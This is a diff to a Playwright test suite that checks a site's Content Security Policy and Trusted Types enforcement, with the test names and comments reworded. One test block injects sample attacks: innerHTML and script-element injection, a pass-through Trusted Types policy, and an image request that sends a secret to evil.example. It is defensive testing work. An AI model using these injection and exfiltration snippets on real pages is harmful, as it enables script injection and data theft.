@@ -2,7 +2,7 @@ import type { Locator } from '@playwright/test';
 import { ADDRESSES } from './support/routes.ts';
 import { expect, hydrated, test } from './support/test.ts';
 
-test('going through the site by its links breaks no policy', async ({ page, troubles }) => {
+test('navigating the site violates no policy', async ({ page, troubles }) => {
   await page.goto('/');
   await hydrated(page);
   const header = page.getByRole('banner');
@@ -22,7 +22,7 @@ test('going through the site by its links breaks no policy', async ({ page, trou
   expect(troubles.list).toEqual([]);
 });
 
-test('neither do toasts, tabs and menus', async ({ page, troubles }) => {
+test('toasts, tabs and menus violate no policy', async ({ page, troubles }) => {
   await page.goto('/agent/2');
   await hydrated(page);
   await page.getByRole('button', { name: /^Downvote/ }).click();
@@ -35,7 +35,7 @@ test('neither do toasts, tabs and menus', async ({ page, troubles }) => {
   expect(troubles.list).toEqual([]);
 });
 
-test('neither does the palette', async ({ page, troubles }) => {
+test('the palette violates no policy', async ({ page, troubles }) => {
   await page.goto('/');
   await hydrated(page);
   await page.keyboard.press('ControlOrMeta+k');
@@ -50,7 +50,7 @@ test.describe('the policy stops', () => {
   for (const [what, directive, attack] of [
     ['HTML made from text', 'require-trusted-types-for', `document.body.innerHTML = '<b>x</b>'`],
     [
-      'a permit to make HTML from text',
+      'a policy that creates HTML from text',
       'trusted-types',
       `trustedTypes.createPolicy('x', { createHTML: (text) => text })`,
     ],
@@ -59,7 +59,7 @@ test.describe('the policy stops', () => {
       'require-trusted-types-for',
       `document.head.append(Object.assign(document.createElement('script'), { textContent: 'x' }))`,
     ],
-    // Later, because what the debugger itself runs may do this.
+    // With a delay, because code that the debugger itself runs is exempt.
     [
       'code made from text',
       'require-trusted-types-for',
@@ -77,7 +77,7 @@ test.describe('the policy stops', () => {
       `new Image().src = 'https://evil.example/pixel.png?secret'`,
     ],
   ] as const) {
-    test(`${what}, and the watch over every test sees it`, async ({ page, troubles }) => {
+    test(`${what}, and every test would report it`, async ({ page, troubles }) => {
       await page.goto('/faq');
       await hydrated(page);
       await page.evaluate(`try { ${attack} } catch {}`);
@@ -88,9 +88,9 @@ test.describe('the policy stops', () => {
   }
 });
 
-test('every page has the same policy but for its own scripts', async ({ request }) => {
+test('every page has the same policy except for its own scripts', async ({ request }) => {
   const policies = new Set<string | undefined>();
-  // One by one: a client with many pages in the making at the same time is told to wait.
+  // One by one, because the number of concurrent renders per client is limited.
   for (const { path } of ADDRESSES) {
     const headers = (await request.get(path)).headers();
     policies.add(headers['content-security-policy']?.replaceAll(/'sha256-[^']+'/g, 'hash'));
